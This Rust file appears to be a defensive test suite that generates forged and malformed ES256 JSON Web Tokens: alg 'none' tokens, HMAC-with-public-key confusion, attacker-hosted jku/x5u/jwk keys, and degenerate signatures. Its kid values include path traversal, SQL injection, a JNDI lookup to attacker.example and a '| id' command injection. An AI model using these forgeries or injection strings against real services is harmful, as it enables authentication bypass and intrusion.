//! Faults that are wrong in any signed token, whatever it is for. The signer's algorithm is ES256.

use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

use super::forges::{Forge, NULL, Row, changed, encode, header, made, strange};

/// Every attack that can be tried on any signed token.
pub(super) fn rows() -> Vec<Row> {
    [algorithms(), keys(), parameters(), types(), duplicates(), forms(), bodies(), signatures()].into_iter().flatten().collect()
}

fn algorithms() -> Vec<Row> {
    let mut rows = Vec::new();
    for none in ["none", "None", "NONE", "nOnE", ""] {
        rows.push(header(json!({ "alg": none })));
        rows.push(made(&format!("alg {none:?} and no signature"), move |forge| unsigned(forge, none)));
    }
    rows.extend([json!(null), json!(NULL), json!(256), json!(["ES256"]), json!({})].map(|alg| header(json!({ "alg": alg }))));
    let others = ["HS256", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES384", "ES512", "ES256K", "EdDSA", "es256", "ES256 "];
    rows.extend(others.map(|alg| header(json!({ "alg": alg }))));
    rows.extend([
        made("HS256 keyed with the public key, PEM", |forge| forge.hmac(Algorithm::HS256, forge.key.public_pem.as_bytes())),
        made("the same without its last newline", |forge| forge.hmac(Algorithm::HS256, forge.key.public_pem.trim_end().as_bytes())),
        made("HS256 keyed with the public key, DER", |forge| forge.hmac(Algorithm::HS256, &forge.key.public_der)),
        made("HS256 keyed with the public key, JWK", |forge| forge.hmac(Algorithm::HS256, forge.key.jwk.to_string().as_bytes())),
        made("HS256 keyed with the point", |forge| forge.hmac(Algorithm::HS256, &forge.key.public_der[forge.key.public_der.len() - 65..])),
        made("HS256 keyed with the key's name", |forge| forge.hmac(Algorithm::HS256, forge.key.id.as_bytes())),
        made("HS256 keyed with a nought", |forge| forge.hmac(Algorithm::HS256, &[0])),
        made("HS384 keyed with the public key, PEM", |forge| forge.hmac(Algorithm::HS384, forge.key.public_pem.as_bytes())),
        made("HS512 keyed with the public key, DER", |forge| forge.hmac(Algorithm::HS512, &forge.key.public_der)),
        made("an HMAC under the name of ES256", |forge| {
            let token = forge.hmac(Algorithm::HS256, forge.key.public_pem.as_bytes());
            let (_, rest) = token.split_once('.').unwrap();
            format!("{}.{rest}", encode(forge.header.to_string()))
        }),
        made("ES256 by another's key", |forge| forge.by(strange(Algorithm::ES256), "ES256")),
        made("ES384 by a key of P-384", |forge| forge.by(strange(Algorithm::ES384), "ES384")),
        made("ES256 that is ES384 by a key of P-384", |forge| forge.by(strange(Algorithm::ES384), "ES256")),
        made("EdDSA by another's key", |forge| forge.by(strange(Algorithm::EdDSA), "EdDSA")),
        made("ES256 that is EdDSA", |forge| forge.by(strange(Algorithm::EdDSA), "ES256")),
        made("RS256 by another's key", |forge| forge.by(strange(Algorithm::RS256), "RS256")),
        made("RS512 by another's key", |forge| forge.by(strange(Algorithm::RS512), "RS512")),
        made("PS256 by another's key", |forge| forge.by(strange(Algorithm::PS256), "PS256")),
        made("ES256K", Forge::es256k),
    ]);
    rows
}

fn unsigned(forge: &Forge, algorithm: &str) -> String {
    let header = changed(&forge.header, &json!({ "alg": algorithm }));
    format!("{}.{}.", encode(header.to_string()), encode(forge.claims().to_string()))
}

fn keys() -> Vec<Row> {
    let mut rows: Vec<_> = [
        json!(""),
        json!("another"),
        json!(1),
        json!(NULL),
        json!(["one"]),
        json!({}),
        json!("../../keys/token-signing.pem"),
        json!("/dev/null"),
        json!("' OR 1=1 --"),
        json!("x' UNION SELECT 'AAAA"),
        json!("a".repeat(2_000)),
        json!("\u{0}"),
        json!("https://attacker.example/key"),
        json!("${jndi:ldap://attacker.example}"),
        json!("| id"),
    ]
    .map(|id| header(json!({ "kid": id })))
    .into();
    rows.extend([
        made("the key's name with a space", |forge| forge.with(&json!({ "kid": format!("{} ", forge.key.id) }), &json!({}))),
        made("the key's name twice", |forge| forge.with(&json!({ "kid": format!("{0}{0}", forge.key.id) }), &json!({}))),
        made("half of the key's name", |forge| forge.with(&json!({ "kid": forge.key.id[..20] }), &json!({}))),
        made("the key's name in capitals", |forge| forge.with(&json!({ "kid": forge.key.id.to_uppercase() + "A" }), &json!({}))),
        made("the attacker's key under its own name", |forge| {
            let key = strange(Algorithm::ES256);
            let header = changed(&forge.header, &json!({ "kid": key.id }));
            let message = format!("{}.{}", encode(header.to_string()), encode(forge.claims().to_string()));
            format!("{message}.{}", key.sign(&message))
        }),
    ]);
    rows
}

fn parameters() -> Vec<Row> {
    let mut rows: Vec<_> = [
        json!({ "jku": "https://attacker.example/jwks.json" }),
        json!({ "jku": "" }),
        json!({ "x5u": "https://attacker.example/cert.pem" }),
        json!({ "x5c": [] }),
        json!({ "x5c": ["AAAA"] }),
        json!({ "jwk": {} }),
        json!({ "crit": [] }),
        json!({ "crit": ["exp"] }),
        json!({ "crit": ["b64"], "b64": true }),
        json!({ "crit": ["https://attacker.example/x"] }),
        json!({ "b64": false }),
        json!({ "b64": false, "crit": ["b64"] }),
        json!({ "zip": "DEF" }),
        json!({ "crit": NULL }),
    ]
    .map(header)
    .into();
    rows.push(made("its own key in the header", |forge| forge.with(&json!({ "jwk": forge.key.jwk }), &json!({}))));
    rows.push(made("the attacker's key in the header", |forge| {
        let key = strange(Algorithm::ES256);
        let header = changed(&forge.header, &json!({ "jwk": key.jwk }));
        let message = format!("{}.{}", encode(header.to_string()), encode(forge.claims().to_string()));
        format!("{message}.{}", key.sign(&message))
    }));
    rows
}

fn types() -> Vec<Row> {
    ["", "JWS", "JOSE", "id_token+jwt", "logout+jwt", "dpop+jwt", "at+jwe", "application/", "text/at+jwt", "application/application/jwt"]
        .map(|kind| header(json!({ "typ": kind })))
        .into_iter()
        .chain([json!(NULL), json!(1), json!(["at+jwt", "JWT"])].map(|kind| header(json!({ "typ": kind }))))
        .collect()
}

fn twice(object: &Value, member: &str) -> String {
    format!("{{\"{member}\":\"another\",{}", &object.to_string()[1..])
}

fn duplicates() -> Vec<Row> {
    let mut rows: Vec<_> = ["alg", "kid"]
        .map(|member| {
            made(&format!("{member} twice in the header"), move |forge| forge.of(twice(&forge.header, member), forge.claims().to_string()))
        })
        .into();
    rows.extend(["iss", "sub", "aud", "exp", "jti"].map(|member| {
        made(&format!("{member} twice in the claims"), move |forge| forge.of(forge.header.to_string(), twice(&forge.claims(), member)))
    }));
    rows.push(made("alg twice, once escaped", |forge| {
        forge.of(format!("{{\"\\u0061lg\":\"none\",{}", &forge.header.to_string()[1..]), forge.claims().to_string())
    }));
    rows
}

/// The token with one of its three parts changed.
fn part(forge: &Forge, at: usize, change: impl Fn(&str) -> String) -> String {
    let token = forge.right();
    let parts: Vec<_> =
        token.split('.').enumerate().map(|(position, part)| if position == at { change(part) } else { part.into() }).collect();
    parts.join(".")
}

fn forms() -> Vec<Row> {
    let mut rows = Vec::new();
    for (at, name) in ["header", "claims", "signature"].into_iter().enumerate() {
        rows.push(made(&format!("the {name} padded"), move |forge| part(forge, at, |part| format!("{part}="))));
        rows.push(made(&format!("the {name} with a space"), move |forge| part(forge, at, |part| format!("{} {}", &part[..4], &part[4..]))));
        rows.push(made(&format!("the {name} with a percent sign"), move |forge| part(forge, at, |part| format!("{part}%3D"))));
        rows.push(made(&format!("the {name} left out"), move |forge| part(forge, at, |_| String::new())));
    }
    rows.extend([
        made("one dot", |_| ".".into()),
        made("two dots", |_| "..".into()),
        made("three dots", |_| "...".into()),
        made("no dot", |forge| forge.right().replace('.', "")),
        made("two parts", |forge| forge.right().rsplit_once('.').unwrap().0.to_owned()),
        made("four parts", |forge| forge.right() + ".AAAA"),
        made("four parts, the last empty", |forge| forge.right() + "."),
        made("five parts, as JWE has", |forge| format!("{}.AAAA.AAAA", forge.right())),
        made("JWE", |forge| {
            let header = json!({ "alg": "RSA-OAEP", "enc": "A256GCM", "kid": forge.key.id, "typ": forge.header["typ"] });
            format!("{}.AAAA.AAAAAAAAAAAAAAAA.AAAA.AAAAAAAAAAAAAAAAAAAAAA", encode(header.to_string()))
        }),
        made("two tokens, one after the other", |forge| forge.right() + &forge.right()),
        made("the flattened JSON serialisation", |forge| {
            let token = forge.right();
            let parts: Vec<_> = token.split('.').collect();
            json!({ "protected": parts[0], "payload": parts[1], "signature": parts[2] }).to_string()
        }),
        made("the general JSON serialisation", |forge| {
            let token = forge.right();
            let parts: Vec<_> = token.split('.').collect();
            json!({ "payload": parts[1], "signatures": [{ "protected": parts[0], "signature": parts[2] }] }).to_string()
        }),
        made("a token in a token", |forge| forge.of(changed(&forge.header, &json!({ "cty": "JWT" })).to_string(), forge.right())),
        made("a token in a token, as JSON", |forge| forge.of(forge.header.to_string(), json!(forge.right()).to_string())),
        made("base64 of the usual alphabet", |forge| {
            std::iter::repeat_with(|| forge.right()).find(|token| token.contains(['-', '_'])).unwrap().replace('-', "+").replace('_', "/")
        }),
        made("bits beyond the signature's end", |forge| part(forge, 2, beyond_the_end)),
        made("bits beyond the claims' end, signed so", |forge| {
            let mut claims = forge.claims().to_string();
            while claims.len() % 3 != 1 {
                claims.push(' ');
            }
            forge.signed(&format!("{}.{}", encode(forge.header.to_string()), beyond_the_end(&encode(claims))))
        }),
        made("more than a token can be, signed", |forge| forge.with(&json!({}), &json!({ "more": "a".repeat(4_000) }))),
    ]);
    rows
}

/// The same bytes in base64url, with a last letter that has extra bits set.
fn beyond_the_end(part: &str) -> String {
    const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = part.split_at(part.len() - 1);
    let position = ALPHABET.iter().position(|letter| *letter == last.as_bytes()[0]).unwrap();
    format!("{rest}{}", char::from(ALPHABET[position + 1]))
}

fn bodies() -> Vec<Row> {
    let mut rows: Vec<Row> = ["", "null", "7", "\"x\"", "[]", "{}", "not JSON", "{\"a\":NaN}", "{} {}", "// x\n{}"]
        .map(|body| made(&format!("claims of {body:?}, signed"), move |forge| forge.of(forge.header.to_string(), body)))
        .into();
    rows.extend(
        ["", "null", "[]", "{}", "\"ES256\""]
            .map(|header| made(&format!("a header of {header:?}, signed"), move |forge| forge.of(header, forge.claims().to_string()))),
    );
    rows.extend([
        made("claims in a list, signed", |forge| forge.of(forge.header.to_string(), json!([forge.claims()]).to_string())),
        made("claims with more after them, signed", |forge| forge.of(forge.header.to_string(), forge.claims().to_string() + "x")),
        made("claims with a byte order mark, signed", |forge| forge.of(forge.header.to_string(), format!("\u{feff}{}", forge.claims()))),
        made("claims that are not UTF-8, signed", |forge| {
            let mut bytes = changed(&forge.claims(), &json!({ "x": "?" })).to_string().into_bytes();
            let at = bytes.iter().rposition(|byte| *byte == b'?').unwrap();
            bytes[at] = 0xff;
            forge.of(forge.header.to_string(), bytes)
        }),
        made("claims in UTF-16, signed", |forge| {
            let bytes: Vec<u8> = forge.claims().to_string().encode_utf16().flat_map(u16::to_le_bytes).collect();
            forge.of(forge.header.to_string(), bytes)
        }),
        made("claims with a lone surrogate, signed", |forge| {
            forge.of(forge.header.to_string(), forge.claims().to_string().replace("jti-", "\\ud800"))
        }),
        made("claims of great depth, signed", |forge| {
            let deep = format!("{}{}", "[".repeat(1_000), "]".repeat(1_000));
            forge.of(forge.header.to_string(), format!("{{\"x\":{deep},{}", &forge.claims().to_string()[1..]))
        }),
        made("a header that is not UTF-8, signed", |forge| {
            let mut bytes = changed(&forge.header, &json!({ "x": "?" })).to_string().into_bytes();
            let at = bytes.iter().rposition(|byte| *byte == b'?').unwrap();
            bytes[at] = 0xff;
            forge.of(bytes, forge.claims().to_string())
        }),
    ]);
    rows
}

/// The order of P-256.
const ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84,
    0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

fn signatures() -> Vec<Row> {
    let mut one = [0; 32];
    one[31] = 1;
    let mut rows: Vec<_> = [
        ("all noughts", [[0; 32], [0; 32]]),
        ("r and s of one", [one, one]),
        ("r of nought", [[0; 32], one]),
        ("s of nought", [one, [0; 32]]),
        ("r and s of the order", [ORDER, ORDER]),
        ("all ones", [[0xff; 32], [0xff; 32]]),
    ]
    .map(|(name, signature)| made(&format!("a signature, {name}"), move |forge| forge.resigned(|_, _| encode(signature.concat()))))
    .into();
    rows.extend([
        made("a signature in ASN.1", |forge| forge.resigned(|message, _| forge.asn1(message))),
        made("a signature without its end", |forge| forge.resigned(|_, right| right[..84].to_owned())),
        made("half a signature", |forge| forge.resigned(|_, right| right[..43].to_owned())),
        made("a signature with a byte more", |forge| forge.resigned(|_, right| encode([decoded(right), vec![0]].concat()))),
        made("a signature with a byte before", |forge| forge.resigned(|_, right| encode([vec![0], decoded(right)].concat()))),
        made("a signature twice", |forge| forge.resigned(|_, right| encode([decoded(right), decoded(right)].concat()))),
        made("a signature with r and s exchanged", |forge| {
            forge.resigned(|_, right| encode([&decoded(right)[32..], &decoded(right)[..32]].concat()))
        }),
        made("another token's signature", |forge| forge.resigned(|_, _| forge.right().rsplit_once('.').unwrap().1.to_owned())),
        made("a signature over the claims alone", |forge| forge.resigned(|message, _| forge.key.sign(message.split_once('.').unwrap().1))),
        made("a signature of a bit less", |forge| {
            forge.resigned(|_, right| {
                let mut bytes = decoded(right);
                bytes[40] ^= 1;
                encode(bytes)
            })
        }),
    ]);
    rows
}

fn decoded(part: &str) -> Vec<u8> {
    use base64::Engine;
    base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(part).unwrap()
}
